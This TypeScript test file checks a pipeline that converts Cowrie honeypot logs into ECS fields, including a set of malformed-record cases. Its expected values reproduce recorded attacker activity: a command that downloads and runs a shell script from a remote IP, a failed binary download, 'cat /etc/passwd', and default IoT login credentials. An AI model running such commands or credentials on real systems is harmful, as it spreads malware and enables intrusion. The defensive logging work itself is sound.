// The cowrie pipeline (pipelines/cowrie.yml) run in process over every fixture in test/fixtures/cowrie.
// Expectations are per fixture line; the fixtures stay plain files so the data-stream round trip can reuse them.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import YAML from 'yaml';
import { compilePipeline, createGeoIpLookup } from '../../src/pipeline-runner/index.ts';
import { fieldAt as get, runHandled, expectFieldsAt as expectFields } from '../support/pipeline-assert.ts';

const dir = new URL('../fixtures/cowrie/', import.meta.url);
const lines = (name: string) => readFileSync(new URL(name, dir), 'utf8').split('\n').filter((l) => l.trim() !== '');
const asset = YAML.parse(readFileSync(new URL('../../pipelines/cowrie.yml', import.meta.url), 'utf8'));
const pipeline = compilePipeline(asset.pipeline, { timezone: 'UTC', geoip: createGeoIpLookup(), resolvePipeline: () => undefined });

const run = (doc: Record<string, unknown>) => runHandled(pipeline, doc);

const SESSION1 = { 'cowrie.session': '7f3a9c2e41d8', 'source.ip': '218.92.0.112', 'source.geo.country_iso_code': 'CN', 'observer.hostname': 'hp-fra-01' };
const SESSION2 = { 'cowrie.session': 'a04c9e6b12f3', 'source.ip': '2a01:4f8:c17:2c5e::1', 'source.geo.country_iso_code': 'DE' };
const SESSION3 = { 'cowrie.session': 'e2b55d0c7a91', 'source.ip': '45.148.10.240', 'source.geo.country_iso_code': 'NL' };

// One entry per line of cowrie.ndjson.
const expected: Record<string, unknown>[] = [
  { ...SESSION1, '@timestamp': '2024-03-14T08:12:01.482Z', 'event.action': 'cowrie.session.connect', 'event.category': ['network', 'session'], 'event.type': ['connection', 'start'], 'event.outcome': 'success', 'source.port': 48212, 'destination.ip': '172.31.14.20', 'destination.port': 2222, 'network.protocol': 'ssh', 'network.transport': 'tcp', 'observer.type': 'honeypot', 'observer.vendor': 'Cowrie', 'related.ip': ['218.92.0.112', '172.31.14.20'] },
  { ...SESSION1, 'event.action': 'cowrie.client.version', 'event.category': ['network'], 'event.type': ['protocol', 'info'], 'cowrie.client.version': 'SSH-2.0-libssh2_1.9.0', 'message': 'Remote SSH version: SSH-2.0-libssh2_1.9.0' },
  { ...SESSION1, 'event.action': 'cowrie.client.kex', 'cowrie.client.hassh': 'ec7378c1a92f5a8dde7e8b7a1ddf33d1', 'cowrie.client.comp_cs': ['none'], 'cowrie.client.key_algs': ['ssh-ed25519', 'ecdsa-sha2-nistp256', 'rsa-sha2-512', 'ssh-rsa'] },
  { ...SESSION1, 'event.action': 'cowrie.login.failed', 'event.category': ['authentication'], 'event.type': ['start'], 'event.outcome': 'failure', 'user.name': 'root', 'cowrie.password': '123456', 'related.user': ['root'] },
  { ...SESSION1, 'event.action': 'cowrie.login.failed', 'event.outcome': 'failure', 'user.name': 'admin', 'cowrie.password': 'admin' },
  { ...SESSION1, '@timestamp': '2024-03-14T08:12:06.377Z', 'event.action': 'cowrie.login.success', 'event.category': ['authentication'], 'event.outcome': 'success', 'user.name': 'root', 'cowrie.password': 'P@ssw0rd' },
  { ...SESSION1, 'event.action': 'cowrie.client.size', 'event.category': ['session'], 'event.type': ['info'], 'cowrie.client.width': 80, 'cowrie.client.height': 24 },
  { ...SESSION1, 'event.action': 'cowrie.client.var', 'cowrie.client.var.name': 'LANG', 'cowrie.client.var.value': 'en_US.UTF-8' },
  { ...SESSION1, 'event.action': 'cowrie.session.params', 'event.category': ['session'], 'cowrie.arch': 'linux-x64-lsb' },
  { ...SESSION1, 'event.action': 'cowrie.command.input', 'event.category': ['process'], 'event.type': ['start'], 'event.outcome': undefined, 'process.command_line': 'uname -a', 'process.name': 'uname' },
  { ...SESSION1, 'event.action': 'cowrie.command.input', 'process.command_line': 'cd /tmp; wget http://185.234.216.4/bins.sh; chmod 777 bins.sh; sh bins.sh', 'process.name': 'cd' },
  { ...SESSION1, 'event.action': 'cowrie.session.file_download', 'event.category': ['file'], 'event.type': ['creation'], 'event.outcome': 'success', 'url.full': 'http://185.234.216.4/bins.sh', 'url.domain': '185.234.216.4', 'url.path': '/bins.sh', 'url.scheme': 'http', 'file.hash.sha256': '8e2f6f0c4a1d7b3e9c5a2b1f0d6e4c3b2a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d', 'file.path': 'var/lib/cowrie/downloads/8E2F6F0C4A1D7B3E9C5A2B1F0D6E4C3B2A1F0E9D8C7B6A5F4E3D2C1B0A9F8E7D', 'cowrie.destfile': 'bins.sh', 'related.hash': ['8e2f6f0c4a1d7b3e9c5a2b1f0d6e4c3b2a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d'] },
  { ...SESSION1, 'event.action': 'cowrie.command.failed', 'event.outcome': 'failure', 'process.command_line': './x86_64', 'process.name': './x86_64' },
  { ...SESSION1, 'event.action': 'cowrie.session.file_download.failed', 'event.category': ['file'], 'event.outcome': 'failure', 'url.full': 'http://185.234.216.4:8080/x86_64', 'url.port': 8080, 'file.hash.sha256': undefined },
  { ...SESSION1, 'event.action': 'cowrie.log.closed', 'event.category': ['session'], 'event.type': ['end'], 'cowrie.ttylog': 'var/lib/cowrie/tty/3b8e1f27a0c44b5e9d21c6f0e7a58d1c4b3f2e6a9d0c8b7e5f4a3d2c1b0e9f8a', 'file.size': 1873, 'file.hash.sha256': '3b8e1f27a0c44b5e9d21c6f0e7a58d1c4b3f2e6a9d0c8b7e5f4a3d2c1b0e9f8a', 'cowrie.duplicate': false, 'cowrie.duration': 12.2 },
  { ...SESSION1, 'event.action': 'cowrie.session.closed', 'event.category': ['network', 'session'], 'event.type': ['connection', 'end'], 'cowrie.duration': 17.1 },
  { ...SESSION2, 'event.action': 'cowrie.session.connect', 'source.port': 39994, 'destination.ip': '2a01:4f8:1c1b:7ae1::1', 'destination.port': 22 },
  { ...SESSION2, 'event.action': 'cowrie.client.version', 'cowrie.client.version': 'SSH-2.0-Go' },
  { ...SESSION2, 'event.action': 'cowrie.client.fingerprint', 'event.category': ['authentication'], 'event.type': ['info'], 'user.name': 'git', 'cowrie.client.fingerprint': '3f:2a:91:6c:0b:7e:d4:58:a1:c9:22:e6:4f:90:1d:b3', 'cowrie.client.key_type': 'ssh-ed25519' },
  { ...SESSION2, 'event.action': 'cowrie.login.failed', 'event.outcome': 'failure', 'user.name': 'пользователь', 'cowrie.password': '' },
  { 'cowrie.session': 'a04c9e6b12f3', 'event.action': 'cowrie.direct-tcpip.request', 'event.category': ['network'], 'event.type': ['connection', 'start'], 'destination.domain': 'www.google.com', 'destination.ip': undefined, 'destination.port': 443, 'source.ip': '127.0.0.1', 'source.port': 36148, 'source.geo': undefined },
  { ...SESSION2, 'event.action': 'cowrie.direct-tcpip.data', 'event.type': ['info'], 'destination.ip': '8.8.8.8', 'destination.port': 53, 'cowrie.data': "b'\\x00\\x1c\\x12\\x34\\x01\\x00\\x00\\x01'" },
  { ...SESSION2, 'event.action': 'cowrie.session.closed', 'cowrie.duration': 2.4 },
  { ...SESSION3, 'event.action': 'cowrie.session.connect', 'network.protocol': 'telnet', 'destination.port': 2223 },
  { ...SESSION3, 'event.action': 'cowrie.login.success', 'event.outcome': 'success', 'user.name': 'root', 'cowrie.password': 'vizxv', 'network.protocol': 'telnet' },
  { ...SESSION3, 'event.action': 'cowrie.command.input', 'process.command_line': 'enable', 'process.name': 'enable' },
  { ...SESSION3, 'event.action': 'cowrie.session.file_upload', 'event.category': ['file'], 'event.outcome': 'success', 'file.name': 'dvrHelper', 'file.hash.sha256': 'c0ffee1234567890abcdef1234567890abcdef1234567890abcdef1234567890' },
  { ...SESSION3, 'event.action': 'cowrie.log.closed', 'file.size': 512, 'cowrie.duplicate': true, 'cowrie.duration': 4 },
];

test('cowrie fixtures: every eventid maps to ECS (structured documents)', () => {
  const records = lines('cowrie.ndjson');
  assert.equal(records.length, expected.length);
  const seen = new Set<string>();
  records.forEach((line, i) => {
    const doc = run(JSON.parse(line));
    expectFields(doc, { 'event.kind': 'event', 'event.module': 'cowrie', 'event.dataset': 'cowrie', 'error': undefined, ...expected[i] }, `line ${i + 1}`);
    for (const leftover of ['eventid', 'src_ip', 'src_port', 'dst_ip', 'session', 'sensor', 'timestamp', 'username', 'password', 'shasum', 'outfile', 'input']) {
      assert.equal(get(doc, leftover), undefined, `line ${i + 1}: ${leftover} moved to ECS`);
    }
    seen.add(String(get(doc, 'event.action')));
  });
  for (const id of ['cowrie.session.connect', 'cowrie.session.closed', 'cowrie.login.success', 'cowrie.login.failed', 'cowrie.command.input', 'cowrie.command.failed', 'cowrie.session.file_download', 'cowrie.session.file_upload', 'cowrie.client.kex', 'cowrie.client.version', 'cowrie.client.size', 'cowrie.log.closed', 'cowrie.direct-tcpip.request']) {
    assert.ok(seen.has(id), `fixtures cover ${id}`);
  }
});

test('cowrie fixtures: the same records as Filebeat lines in message give the same ECS and keep the line', () => {
  lines('cowrie.ndjson').forEach((line, i) => {
    const filebeat = { '@timestamp': '2024-03-14T13:00:00.000Z', message: line, log: { file: { path: '/home/cowrie/cowrie/var/log/cowrie/cowrie.json' } }, input: { type: 'filestream' } };
    const doc = run(filebeat);
    expectFields(doc, { 'event.original': line, 'event.kind': 'event', ...expected[i] }, `line ${i + 1}`);
    assert.equal(get(doc, 'log.file.path'), '/home/cowrie/cowrie/var/log/cowrie/cowrie.json');
  });
});

test('cowrie fixtures: a Nyx agent envelope with the line in raw', () => {
  const line = lines('cowrie.ndjson')[3]!;
  const doc = run({ ts: '2024-03-14T08:12:03Z', category: 'cowrie', host: 'honeypot-01', raw: line });
  expectFields(doc, { 'event.original': line, 'host.name': 'honeypot-01', 'event.outcome': 'failure', 'user.name': 'root', 'source.ip': '218.92.0.112', raw: undefined }, 'envelope');
});

// One entry per line of malformed.ndjson: the reason, and what must survive.
const malformed: { error: RegExp; fields: Record<string, unknown>; original?: 'message' | 'raw' | 'none' }[] = [
  { error: /^fail processor \[require-eventid\] failed: not a Cowrie record/, original: 'message', fields: { 'log.file.path': '/home/cowrie/cowrie/var/log/cowrie/cowrie.log' } },
  { error: /^json processor \[parse-message-json\] failed: /, original: 'message', fields: {} },
  { error: /^fail processor \[require-eventid\] failed/, original: 'message', fields: { message: 'no event id here', session: '7f3a9c2e41d8' } },
  { error: /^convert processor \[src-ip-valid\] failed: .*999\.12\.4\.1/, original: 'message', fields: { 'source.ip': undefined, 'cowrie.unparsed.src_ip': '999.12.4.1', 'cowrie.session': 'bad0ip000001' } },
  { error: /^convert processor \[src-port-long\] failed: unable to convert \[sixty\]/, original: 'raw', fields: { 'source.port': undefined, 'cowrie.unparsed.src_port': 'sixty', 'cowrie.unparsed.src_ip': '45.148.10.240' } },
  { error: /^fail processor \[require-cowrie-eventid\] failed: .*got \[42\]/, original: 'raw', fields: { 'cowrie.unparsed.eventid': 42, message: 'numeric event id' } },
  { error: /^date processor \[timestamp\] failed: .*yesterday at noon/, original: 'message', fields: { 'cowrie.unparsed.timestamp': 'yesterday at noon', '@timestamp': '2024-03-14T12:00:06.000Z' } },
  { error: /^fail processor \[require-cowrie-eventid\] failed: .*kippo\.session\.connect/, original: 'message', fields: {} },
  { error: /^fail processor \[require-eventid\] failed/, original: 'message', fields: {} },
];

test('cowrie malformed fixtures are kept with error.message and their original, never dropped', () => {
  const records = lines('malformed.ndjson');
  records.forEach((line, i) => {
    const input = JSON.parse(line);
    if (i >= malformed.length) return;
    const m = malformed[i]!;
    const doc = run(input);
    assert.equal(get(doc, 'event.kind'), 'pipeline_error', `line ${i + 1}`);
    assert.match(String(get(doc, 'error.message')), m.error, `line ${i + 1}`);
    if (m.original === 'message') assert.equal(get(doc, 'event.original'), input.message, `line ${i + 1}: event.original`);
    if (m.original === 'raw') assert.equal(get(doc, 'event.original'), input.raw, `line ${i + 1}: event.original`);
    assert.ok(typeof get(doc, '@timestamp') === 'string', `line ${i + 1}: indexable @timestamp`);
    assert.equal(get(doc, '_tmp'), undefined);
    expectFields(doc, m.fields, `line ${i + 1}`);
  });
  // The last two lines are incomplete but valid Cowrie records: mapped with what they have, no error.
  const partial1 = run(JSON.parse(records[9]!));
  expectFields(partial1, { 'event.kind': 'event', 'process.command_line': 'cat /etc/passwd', 'observer.hostname': undefined, error: undefined }, 'no sensor');
  const partial2 = run(JSON.parse(records[10]!));
  expectFields(partial2, { 'event.kind': 'event', 'event.action': 'cowrie.session.connect', 'source.ip': undefined, 'cowrie.session': undefined, error: undefined }, 'no addresses');
});
